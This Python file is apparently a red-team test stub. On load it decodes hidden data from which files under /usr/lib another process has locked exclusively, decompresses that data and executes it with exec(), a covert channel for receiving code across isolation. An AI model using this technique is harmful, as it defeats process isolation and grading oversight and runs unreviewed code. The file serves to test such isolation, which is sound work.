"""Red team 2 (a solution received through whole-file locks): a stub graded beside r_flock_handover_server.
For a few seconds while loading it walks /usr/lib in sorted order and, for each group of 16 files, finds the
one that flock(LOCK_SH | LOCK_NB) cannot share (the classmate holds it exclusively): its place in the group
is the next 4-bit digit. It decompresses what it read and becomes that source. Marker: RTEAM2-FLOCK.

base: stub
class: 9
run: main
"""

import fcntl as _fcntl
import os as _os
import time as _time
import zlib as _zlib

_ROOT = "/usr/lib"


def _files():
    found = []
    for folder, folders, names in _os.walk(_ROOT):
        folders.sort()
        for name in sorted(names):
            path = _os.path.join(folder, name)
            if not _os.path.islink(path):
                found.append(path)
    return found


def _held(path):
    try:
        fd = _os.open(path, _os.O_RDONLY | _os.O_NONBLOCK)
    except OSError:
        return False
    try:
        _fcntl.flock(fd, _fcntl.LOCK_SH | _fcntl.LOCK_NB)
        return False
    except BlockingIOError:
        return True
    except OSError:
        return False
    finally:
        _os.close(fd)


def _read(files, groups):
    digits = []
    for group in range(groups):
        found = [digit for digit in range(16) if 16 * group + digit < len(files) and _held(files[16 * group + digit])]
        if len(found) != 1:
            return None
        digits.append(found[0])
    return bytes(digits[index] << 4 | digits[index + 1] for index in range(0, len(digits) - 1, 2))


def _ask():
    deadline = _time.monotonic() + 7
    files = _files()
    while _time.monotonic() < deadline:
        head = _read(files, 4)
        if head:
            size = int.from_bytes(head[:2], "big")
            data = _read(files, 4 + 2 * size)
            if data:
                try:
                    return _zlib.decompress(data[2:2 + size]).decode()
                except _zlib.error:
                    pass
        _time.sleep(0.3)
    return None


class _AtLoad:
    _found = _ask()
    if _found:
        exec(compile(_found, "handover", "exec"), globals())
